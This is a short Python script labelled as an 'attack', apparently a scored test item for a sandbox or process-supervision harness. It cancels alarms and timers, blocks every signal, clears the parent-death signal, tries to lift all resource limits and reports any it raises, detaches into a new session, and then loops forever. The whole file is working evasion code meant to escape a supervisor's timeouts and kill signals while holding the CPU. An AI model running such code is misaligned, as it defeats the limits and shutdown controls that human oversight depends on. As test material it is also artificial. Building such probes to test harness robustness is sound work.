# attack: Takes away every alarm, limit and signal that could end it, and does nothing for ever.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.1

import ctypes
import resource
import signal

libc = ctypes.CDLL(None)
signal.alarm(0)
for which in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
    signal.setitimer(which, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
libc.prctl(1, 0)
for limit in range(16):
    if resource.getrlimit(limit)[1] == resource.RLIM_INFINITY:
        continue
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("LEAK limit", limit, flush=True)
    except (OSError, ValueError):
        pass
try:
    libc.setsid()
    libc.setpgid(0, 0)
finally:
    while True:
        pass
